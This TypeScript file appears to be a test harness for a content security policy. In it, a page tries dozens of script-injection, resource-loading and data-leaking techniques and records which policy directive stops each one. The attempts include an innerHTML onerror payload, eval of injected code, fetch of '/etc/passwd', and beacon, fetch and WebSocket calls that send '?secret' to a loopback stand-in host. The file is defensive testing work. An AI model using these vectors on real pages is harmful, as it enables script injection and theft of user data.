/** One attempt of a page: what came of it, and what the content security policy said meanwhile. */
export interface Outcome {
  name: string;
  /** `blocked: why`, or what the page got. */
  got: string;
  /** What must have stopped it: a directive of the policy, or what the page got instead. */
  by: string;
  directives: string[];
}

/**
 * What a page with hostile script in it would try in order to run more of it, to load something, or to tell somebody
 * what it has seen. Runs in the page from its source text, so it stands on its own.
 *
 * @param outside an origin on loopback that must never hear of it
 */
export async function tryEverything(outside: string): Promise<Outcome[]> {
  const state = globalThis as unknown as { ran?: boolean; trustedTypes: never };
  const outcomes: Outcome[] = [];
  let directives: string[] = [];
  let onDirective = () => {};
  document.addEventListener('securitypolicyviolation', (event) => {
    directives.push(event.effectiveDirective);
    onDirective();
  });
  const wait = (ms: number) => new Promise((settle) => setTimeout(settle, ms));
  /** Only for what nothing stops: no promise about how quick a machine is. */
  const PATIENCE_MS = 10_000;

  async function attempt(name: string, by: string, act: () => unknown): Promise<void> {
    directives = [];
    delete state.ran;
    let got: string;
    // What the policy stops may never come to an end, and is told a little later than it happens.
    const isDirective = /^[a-z-]+$/.test(by);
    const isTold = new Promise<void>((settle) => {
      onDirective = () => directives.includes(by) && settle();
    });
    const isOver = Promise.race([isTold, wait(PATIENCE_MS)]).then(() => 'nothing');
    try {
      got = `got ${String(await Promise.race([act(), isOver]))}`;
    } catch (error) {
      got = `blocked: ${(error as Error).name}`;
    }
    if (isDirective) await isOver;
    outcomes.push({ name, got: state.ran ? 'ran' : got, by, directives });
  }

  /** Puts an element into the page and tells whether it loaded. */
  function load(tag: string, set: Record<string, string>, text = ''): Promise<string> {
    const element = document.createElement(tag);
    return new Promise((settle) => {
      element.addEventListener('load', () => settle('loaded'));
      element.addEventListener('error', () => settle('error'));
      for (const [name, value] of Object.entries(set)) element.setAttribute(name, value);
      if (text !== '') element.append(document.createTextNode(text));
      document.body.append(element);
    });
  }
  const made = (tag: string) => document.body.appendChild(document.createElement(tag));
  const TYPES = 'require-trusted-types-for';
  const CODE = 'globalThis.ran = true';
  const blobOf = (type: string) => URL.createObjectURL(new Blob([CODE], { type }));
  const ours = document.querySelector('script')?.src ?? '';

  // Script.
  await attempt('inline script', TYPES, () => load('script', {}, CODE));
  await attempt('script from outside', TYPES, () => load('script', { src: `${outside}/x.js` }));
  await attempt('script of a data URL', TYPES, () => load('script', { src: `data:text/javascript,${CODE}` }));
  await attempt('script of a blob', TYPES, () => load('script', { src: blobOf('text/javascript') }));
  await attempt('event handler in an attribute', TYPES, () => {
    const element = made('button');
    element.setAttribute('onclick', CODE);
    element.click();
  });
  await attempt('javascript: link', 'script-src-elem', () => {
    const link = made('a') as HTMLAnchorElement;
    link.href = `javascript:${CODE}`;
    link.click();
    return wait(100);
  });
  // oxlint-disable-next-line no-eval -- this is the attempt
  await attempt('eval', TYPES, () => (0, eval)(CODE) as unknown);
  // oxlint-disable-next-line typescript/no-implied-eval -- this is the attempt
  await attempt('new Function', TYPES, () => (new Function(CODE) as () => unknown)());
  await attempt('async function constructor', TYPES, () => {
    const Constructor = (async () => {}).constructor as FunctionConstructor;
    return (Constructor(CODE) as () => unknown)();
  });
  await attempt('setTimeout with text', TYPES, () => {
    (setTimeout as (code: unknown) => unknown)(CODE);
    return wait(50);
  });
  await attempt('setInterval with text', TYPES, () => {
    const id = (setInterval as (code: unknown) => number)(CODE);
    return wait(50).then(() => clearInterval(id));
  });
  await attempt(
    'import of a data URL',
    'script-src-elem',
    () => import(/* @vite-ignore */ `data:text/javascript,${CODE}`),
  );
  await attempt(
    'import of a blob',
    'script-src-elem',
    () => import(/* @vite-ignore */ blobOf('text/javascript')),
  );
  await attempt('import from outside', 'script-src-elem', () => import(/* @vite-ignore */ `${outside}/x.js`));
  await attempt('WebAssembly', 'script-src', () =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  );
  await attempt('worker of our own file', TYPES, () => new Worker(ours));
  await attempt('worker of a blob', TYPES, () => new Worker(blobOf('text/javascript')));
  await attempt('shared worker', TYPES, () => new SharedWorker(ours));
  await attempt('service worker', TYPES, () => navigator.serviceWorker.register(ours));
  await attempt('import map', TYPES, () =>
    load('script', { type: 'importmap' }, '{"imports":{"x":"data:,"}}'),
  );
  await attempt('speculation rules', TYPES, () => {
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: [outside] }] });
    return load('script', { type: 'speculationrules' }, rules);
  });

  // Trusted Types.
  await attempt('innerHTML', TYPES, () => (made('div').innerHTML = '<img src=x onerror="ran=true">'));
  await attempt('outerHTML', TYPES, () => (made('div').outerHTML = '<b>x</b>'));
  await attempt('insertAdjacentHTML', TYPES, () => made('div').insertAdjacentHTML('beforeend', '<b>x</b>'));
  await attempt('document.write', TYPES, () => document.write('<b>x</b>'));
  await attempt('createContextualFragment', TYPES, () =>
    document.createRange().createContextualFragment('<b>x</b>'),
  );
  await attempt('DOMParser', TYPES, () => new DOMParser().parseFromString('<b>x</b>', 'text/html'));
  await attempt('srcdoc', TYPES, () => ((made('iframe') as HTMLIFrameElement).srcdoc = '<b>x</b>'));
  await attempt('a policy of its own', 'trusted-types', () => {
    type Factory = { createPolicy(name: string, rules: object): object };
    (state.trustedTypes as Factory).createPolicy('default', { createHTML: (text: string) => text });
    return 'a policy';
  });
  await attempt('eval in a blank frame', 'blocked: EvalError', () => {
    const inner = (made('iframe') as HTMLIFrameElement).contentWindow as unknown as typeof globalThis;
    return inner.eval('1 + 1') as unknown;
  });

  // Style, pictures, fonts, sound, frames.
  await attempt('style element', 'style-src-elem', () => load('style', {}, 'body { color: red }'));
  await attempt('style attribute', 'style-src-attr', () => {
    const element = made('div');
    element.setAttribute('style', 'color: rgb(1, 2, 3)');
    return getComputedStyle(element).color === 'rgb(1, 2, 3)' ? 'styled' : 'plain';
  });
  await attempt('stylesheet from outside', 'style-src-elem', () =>
    load('link', { rel: 'stylesheet', href: `${outside}/x.css` }),
  );
  await attempt('picture from outside', 'img-src', () => load('img', { src: `${outside}/?secret` }));
  await attempt('picture of a blob', 'img-src', () => load('img', { src: blobOf('image/svg+xml') }));
  await attempt('font from outside', 'font-src', () => new FontFace('x', `url(${outside}/x.woff2)`).load());
  await attempt('sound from outside', 'media-src', () => load('audio', { src: `${outside}/x.mp3` }));
  await attempt('video from outside', 'media-src', () => load('video', { src: `${outside}/x.mp4` }));
  await attempt('icon from outside', 'img-src', () =>
    load('link', { rel: 'icon', href: `${outside}/x.ico` }),
  );
  await attempt('prefetch', 'default-src', () =>
    load('link', { rel: 'prefetch', href: `${outside}/?secret` }),
  );
  await attempt('preload', 'img-src', () =>
    load('link', { rel: 'preload', as: 'image', href: `${outside}/?secret` }),
  );
  await attempt('modulepreload', 'script-src-elem', () =>
    load('link', { rel: 'modulepreload', href: `${outside}/y.js` }),
  );
  await attempt('frame from outside', 'frame-src', () => load('iframe', { src: `${outside}/` }));
  await attempt('frame of our own', 'frame-src', () => load('iframe', { src: location.href }));
  await attempt('frame of a data URL', 'frame-src', () => load('iframe', { src: 'data:text/html,x' }));
  await attempt('object', TYPES, () => load('object', { data: `${outside}/x.swf` }));
  await attempt('embed', TYPES, () => load('embed', { src: `${outside}/x.pdf` }));
  await attempt('webview tag', 'got only a name', () => {
    const tag = made('webview') as unknown as { getWebContentsId?: unknown };
    return tag.getWebContentsId === undefined ? 'only a name' : 'a webview';
  });
  await attempt('base', 'base-uri', () => {
    const base = document.head.appendChild(document.createElement('base'));
    base.href = `${outside}/`;
    const moved = document.baseURI.startsWith(outside);
    base.remove();
    return moved ? 'moved' : 'stays';
  });
  await attempt('form', 'form-action', () => {
    const form = made('form') as HTMLFormElement;
    form.action = `${outside}/form`;
    form.submit();
    return wait(50);
  });

  // Telling somebody.
  await attempt('fetch', 'connect-src', () => fetch(`${outside}/?secret`));
  await attempt('fetch without cors', 'connect-src', () =>
    fetch(`${outside}/?secret`, { mode: 'no-cors', keepalive: true }),
  );
  await attempt('fetch of our own page', 'connect-src', () => fetch(location.href));
  await attempt('fetch of a file', 'connect-src', () => fetch('file:///etc/passwd'));
  await attempt('XMLHttpRequest', 'connect-src', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${outside}/?secret`, false);
    request.send();
    return request.status;
  });
  await attempt('WebSocket', 'connect-src', () => {
    const socket = new WebSocket(outside.replace('http', 'ws'));
    return new Promise((settle) => {
      socket.onopen = () => settle('open');
      socket.onerror = () => settle('error');
    });
  });
  await attempt('EventSource', 'connect-src', () => {
    const source = new EventSource(`${outside}/?secret`);
    return new Promise((settle) => {
      source.onopen = () => settle('open');
      source.onerror = () => settle('error');
    });
  });
  await attempt('sendBeacon', 'connect-src', () =>
    navigator.sendBeacon(`${outside}/?secret`) ? 'queued' : 'refused',
  );
  await attempt(
    'WebTransport',
    'connect-src',
    () => new WebTransport(outside.replace('http:', 'https:')).ready,
  );
  await attempt('ping of a link', 'connect-src', () => {
    const link = made('a') as HTMLAnchorElement;
    link.href = '#x';
    link.ping = `${outside}/?secret`;
    link.click();
    return wait(50);
  });
  await attempt('reporting', 'img-src', () => {
    const policy = document.head.appendChild(document.createElement('meta'));
    policy.httpEquiv = 'Content-Security-Policy';
    policy.content = `img-src 'none'; report-uri ${outside}/report`;
    return load('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
  });
  return outcomes;
}
